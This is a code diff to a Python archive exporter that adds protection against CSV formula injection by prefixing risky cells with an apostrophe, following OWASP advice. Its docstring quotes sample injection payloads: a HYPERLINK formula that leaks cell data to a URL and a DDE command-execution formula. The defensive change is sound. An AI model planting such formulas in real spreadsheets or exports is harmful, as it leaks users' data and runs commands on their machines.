@@ -5,6 +5,12 @@ CSV is written as UTF-8 with a byte-order mark: without it, spreadsheet programs
 (Excel in particular) read the file as a legacy code page and Arabic comes out as
 mojibake. Lists in CSV cells are joined with "; "; ``facts`` is a JSON object.
 
+Titles and text come from the monitored sites, so a CSV cell may begin with a formula
+(``=HYPERLINK("http://…?leak="&A2,"…")``, ``+cmd|' /C calc'!A1``, ``@SUM(…)``) that a
+spreadsheet would run. Every cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
+carriage return is prefixed with an apostrophe (OWASP's advice): spreadsheets then show
+it as text, and the text stays readable.
+
 The store holds no secrets (channel URLs live only in the config), so nothing here
 needs redacting; a test keeps it that way.
 """
@@ -79,11 +85,21 @@ def write_csv(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
         record["probable"] = "; ".join(record["probable"])
         record["facts"] = json.dumps(record["facts"], ensure_ascii=False)
         record["duplicates"] = "; ".join(d["url"] for d in record["duplicates"])
-        writer.writerow(record)
+        writer.writerow({key: spreadsheet_safe(value) for key, value in record.items()})
         count += 1
     text.flush()
     text.detach()
     return count
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text, never runs as a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def write_warc(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
